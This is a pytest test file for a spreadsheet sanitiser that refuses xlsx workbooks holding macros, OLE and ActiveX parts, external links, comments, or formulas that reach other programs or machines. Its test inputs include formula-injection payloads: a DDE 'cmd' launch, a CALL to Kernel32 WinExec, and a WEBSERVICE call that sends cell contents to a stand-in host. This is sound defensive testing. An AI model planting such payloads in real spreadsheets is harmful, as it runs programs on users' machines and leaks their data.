import pytest

import office_files
from jianyan.packages import (
    HoldsForeignParts,
    HoldsMacros,
    HoldsReachingFormulas,
    HoldsRemarks,
    LinksOutside,
    to_hand_out,
)

OFFICE = "application/vnd.openxmlformats-officedocument"
DDE = "cmd|'/c calc'!A0"


@pytest.mark.parametrize(
    "element", ["f", "x:f", "formula", "formula1", "definedName", "calculatedColumnFormula"]
)
def test_a_formula_that_starts_a_program_is_found_wherever_it_stands(element: str) -> None:
    data = office_files.with_formula(DDE, element=element)
    if element == "x:f":
        name = "xl/worksheets/sheet1.xml"
        sheet = office_files.unpacked(data)[name].replace(b"<worksheet ", b'<worksheet xmlns:x="urn:x" ')
        data = office_files.changed(data, {name: sheet})
    with pytest.raises(HoldsReachingFormulas) as refused:
        to_hand_out(data)
    assert refused.value.values["names"] == DDE


@pytest.mark.parametrize(
    "formula",
    [
        "cmd|''!_xlbgnm.A1",
        'WEBSERVICE("http://example.cn/"&A1)',
        '_xlfn.WEBSERVICE ("http://example.cn/")',
        'image("https://example.cn/a.png")',
        'HYPERLINK("file:///c:/a.exe","看")',
        '1+RTD("a.b",,"c")',
        'CALL("Kernel32","WinExec","JCJ","calc")',
        'CUBEVALUE("a","b")',
        "'a''|'!B1|'x'!A1",
    ],
)
def test_formulas_that_ask_another_program_or_machine_are_refused(formula: str) -> None:
    with pytest.raises(HoldsReachingFormulas):
        to_hand_out(office_files.with_formula(formula))


@pytest.mark.parametrize(
    "formula",
    [
        "SUM(B2:B9)",
        'IF(A1="|","WEBSERVICE(",0)',
        "'甲|乙'!B1",
        "[1]!A1*2",
        "SUM(表1[班次])",
        "MYIMAGES(1)",
        "_xlfn.XLOOKUP(A1,A:A,B:B)",
    ],
)
def test_formulas_that_calculate_are_taken(formula: str) -> None:
    assert to_hand_out(office_files.with_formula(formula)).ending == "xlsx"


@pytest.mark.parametrize(
    ("name", "kind", "refusal"),
    [
        ("xl/vbaProject.bin", "application/vnd.ms-office.vbaProject", HoldsMacros),
        ("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml", HoldsMacros),
        ("xl/externalLinks/externalLink1.xml", f"{OFFICE}.spreadsheetml.externalLink+xml", HoldsForeignParts),
        ("xl/connections.xml", f"{OFFICE}.spreadsheetml.connections+xml", HoldsForeignParts),
        ("xl/queryTables/queryTable1.xml", f"{OFFICE}.spreadsheetml.queryTable+xml", HoldsForeignParts),
        ("xl/embeddings/oleObject1.bin", f"{OFFICE}.oleObject", HoldsForeignParts),
        ("xl/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", HoldsForeignParts),
        ("xl/ctrlProps/ctrlProp1.xml", "application/vnd.ms-excel.controlproperties+xml", HoldsForeignParts),
        ("xl/comments1.xml", f"{OFFICE}.spreadsheetml.comments+xml", HoldsRemarks),
        ("xl/threadedComments/a.xml", "application/vnd.ms-excel.threadedcomments+xml", HoldsRemarks),
        ("xl/persons/person.xml", "application/vnd.ms-excel.person+xml", HoldsRemarks),
    ],
)
def test_parts_that_act_or_tell_on_people_are_refused(name: str, kind: str, refusal: type[Exception]) -> None:
    with pytest.raises(refusal):
        to_hand_out(office_files.with_part(office_files.workbook(), name, kind))


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        ("xl/cellimages.xml", "application/vnd.wps-officedocument.cellimage+xml"),
        ("xl/printerSettings/printerSettings1.bin", f"{OFFICE}.spreadsheetml.printerSettings"),
        ("xl/charts/chart1.xml", f"{OFFICE}.drawingml.chart+xml"),
        ("xl/metadata.xml", f"{OFFICE}.spreadsheetml.sheetMetadata+xml"),
        ("docProps/thumbnail.jpeg", "image/jpeg"),
    ],
)
def test_parts_that_excel_and_wps_write_are_taken(name: str, kind: str) -> None:
    assert to_hand_out(office_files.with_part(office_files.workbook(), name, kind)).ending == "xlsx"


@pytest.mark.parametrize("beginning", [b"PK\x03\x04", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"])
def test_an_archive_that_calls_itself_a_picture_is_refused(beginning: bytes) -> None:
    with pytest.raises(HoldsForeignParts, match=r"xl/media/a\.png"):
        to_hand_out(office_files.with_part(office_files.workbook(), "xl/media/a.png", "image/png", beginning))


def test_links_for_a_person_are_taken_and_all_other_targets_outside_refused() -> None:
    assert to_hand_out(office_files.with_sheet_relation("hyperlink", "http://example.cn/")).ending == "xlsx"
    for kind, target in (
        ("hyperlink", "file:///c:/a.exe"),
        ("image", "https://example.cn/a.png"),
        ("externalLinkPath", "https://example.cn/a.xlsx"),
    ):
        with pytest.raises(LinksOutside):
            to_hand_out(office_files.with_sheet_relation(kind, target))
    with pytest.raises(HoldsForeignParts):
        to_hand_out(office_files.with_sheet_relation("oleObject", "../embeddings/a.bin", mode="Internal"))
